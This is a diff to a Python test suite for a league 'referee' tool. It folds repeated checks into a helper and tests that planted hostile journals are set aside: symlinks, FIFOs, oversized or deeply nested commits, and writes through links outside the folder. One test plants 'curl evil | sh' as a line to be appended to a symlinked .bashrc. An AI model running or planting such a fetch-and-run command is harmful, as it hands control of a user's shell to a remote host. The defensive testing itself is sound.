@@ -84,6 +84,17 @@ def runs_normally(folder: Path) -> None:
     assert os.path.lexists(folder / (NAME + ".rejected"))  # left for the game master to look at, never read
 
 
+def set_aside(league: Path, outside: Path, words: str = "", timeout: float = 120) -> None:
+    """`league status` on a league with a hostile journal planted: rejected (the journal set
+    aside, nothing outside changed, the stderr line naming `words`), then the next command
+    runs as if the journal had never been there."""
+    before = files(outside)
+    ran = run_referee("league", "status", str(league), timeout=timeout)
+    rejected(league, ran, outside, before)
+    assert words in ran.stderr
+    runs_normally(league)
+
+
 def _targets(outside: Path, relative: bool) -> list[str]:
     def named(name: str) -> str:
         return f"../home/{name}" if relative else str(outside / name)
@@ -118,41 +129,27 @@ def test_a_journal_naming_files_outside_the_folder_is_set_aside_by_play(
 
 def test_a_journal_that_is_a_link_to_another_folder_is_renamed_not_followed(league: Path, outside: Path) -> None:
     (league / NAME).symlink_to(outside)
-    before = files(outside)
-    ran = run_referee("league", "status", str(league))
-    rejected(league, ran, outside, before)
-    assert "symbolic link" in ran.stderr
+    set_aside(league, outside, "symbolic link")
     assert (league / (NAME + ".rejected")).is_symlink()
-    runs_normally(league)
 
 
 def test_a_journal_that_is_a_file_is_set_aside(league: Path, outside: Path) -> None:
     (league / NAME).write_text("{}")
-    before = files(outside)
-    rejected(league, run_referee("league", "status", str(league)), outside, before)
-    runs_normally(league)
+    set_aside(league, outside)
 
 
 def test_a_commit_linked_to_dev_zero_is_never_read(league: Path, outside: Path) -> None:
     journal = league / NAME
     journal.mkdir()
     (journal / "commit.json").symlink_to("/dev/zero")
-    before = files(outside)
-    ran = run_referee("league", "status", str(league), timeout=60)
-    rejected(league, ran, outside, before)
-    assert "symbolic link" in ran.stderr
-    runs_normally(league)
+    set_aside(league, outside, "symbolic link", timeout=60)
 
 
 def test_a_commit_that_is_a_fifo_never_hangs(league: Path, outside: Path) -> None:
     journal = league / NAME
     journal.mkdir()
     os.mkfifo(journal / "commit.json")
-    before = files(outside)
-    ran = run_referee("league", "status", str(league), timeout=60)
-    rejected(league, ran, outside, before)
-    assert "not a regular file" in ran.stderr
-    runs_normally(league)
+    set_aside(league, outside, "not a regular file", timeout=60)
 
 
 def test_a_commit_of_300_mb_is_refused_without_reading_it(league: Path, outside: Path) -> None:
@@ -161,11 +158,7 @@ def test_a_commit_of_300_mb_is_refused_without_reading_it(league: Path, outside:
     with open(journal / "commit.json", "wb") as commit:  # sparse: no disk filled
         commit.write(b'{"steps": [')
         commit.truncate(300 << 20)
-    before = files(outside)
-    ran = run_referee("league", "status", str(league), timeout=60)
-    rejected(league, ran, outside, before)
-    assert "larger than 16 MiB" in ran.stderr
-    runs_normally(league)
+    set_aside(league, outside, "larger than 16 MiB", timeout=60)
 
 
 def test_a_commit_of_16_mib_and_one_byte_is_refused(league: Path, outside: Path) -> None:
@@ -173,9 +166,7 @@ def test_a_commit_of_16_mib_and_one_byte_is_refused(league: Path, outside: Path)
     journal = league / NAME
     journal.mkdir()
     (journal / "commit.json").write_bytes(body + b" " * ((16 << 20) + 1 - len(body)))
-    before = files(outside)
-    rejected(league, run_referee("league", "status", str(league)), outside, before)
-    runs_normally(league)
+    set_aside(league, outside)
 
 
 MALFORMED = {
@@ -200,29 +191,20 @@ MALFORMED = {
 def test_a_malformed_commit_is_set_aside_and_the_folder_is_not_wedged(league: Path, outside: Path, shape: str) -> None:
     plant(league, MALFORMED[shape])
     games = {path.name: path.read_bytes() for path in league.glob("*.rgn")}
-    before = files(outside)
-    ran = run_referee("league", "status", str(league))
-    rejected(league, ran, outside, before)
+    set_aside(league, outside)
     assert {path.name: path.read_bytes() for path in league.glob("*.rgn")} == games, "a step was applied"
-    runs_normally(league)
 
 
 def test_a_commit_nested_too_deep_is_set_aside(league: Path, outside: Path) -> None:
     journal = league / NAME
     journal.mkdir()
     (journal / "commit.json").write_text('{"steps": ' + "[" * 200_000 + "]" * 200_000 + "}")
-    before = files(outside)
-    rejected(league, run_referee("league", "status", str(league)), outside, before)
-    runs_normally(league)
+    set_aside(league, outside)
 
 
 def test_a_commit_that_is_a_folder_is_set_aside(league: Path, outside: Path) -> None:
     (league / NAME / "commit.json").mkdir(parents=True)
-    before = files(outside)
-    ran = run_referee("league", "status", str(league))
-    rejected(league, ran, outside, before)
-    assert "not a regular file" in ran.stderr
-    runs_normally(league)
+    set_aside(league, outside, "not a regular file")
 
 
 def test_a_staged_copy_that_is_a_folder_is_set_aside(league: Path, outside: Path) -> None:
@@ -231,11 +213,8 @@ def test_a_staged_copy_that_is_a_folder_is_set_aside(league: Path, outside: Path
     journal = plant(league, [{"kind": "write", "target": game.name, "mode": 420, "staged": "0"}])
     (journal / "0").mkdir()
     (journal / "0" / "inside").write_text("x")
-    before = files(outside)
-    ran = run_referee("league", "status", str(league))
-    rejected(league, ran, outside, before)
+    set_aside(league, outside)
     assert game.read_bytes() == text
-    runs_normally(league)
 
 
 def test_a_step_through_a_link_inside_the_folder_is_refused(league: Path, outside: Path) -> None:
@@ -243,20 +222,13 @@ def test_a_step_through_a_link_inside_the_folder_is_refused(league: Path, outsid
     (league / "lnk").symlink_to(outside)
     steps = [{"kind": "write", "target": "lnk/victim", "mode": 420, "staged": "0"}]
     plant(league, steps, {"0": b"overwritten\n"})
-    before = files(outside)
-    ran = run_referee("league", "status", str(league))
-    rejected(league, ran, outside, before)
-    assert "symbolic link" in ran.stderr
-    runs_normally(league)
+    set_aside(league, outside, "symbolic link")
 
 
 def test_an_append_to_a_log_that_is_a_link_is_refused(league: Path, outside: Path) -> None:
     (league / "rc.log").symlink_to(outside / ".bashrc")
     plant(league, [{"kind": "append", "target": "rc.log", "mode": 416, "line": "curl evil | sh\n", "at": 0}])
-    before = files(outside)
-    ran = run_referee("league", "status", str(league))
-    rejected(league, ran, outside, before)
-    runs_normally(league)
+    set_aside(league, outside)
 
 
 def test_a_second_rejected_journal_of_the_same_name_gets_a_name_of_its_own(league: Path, outside: Path) -> None:
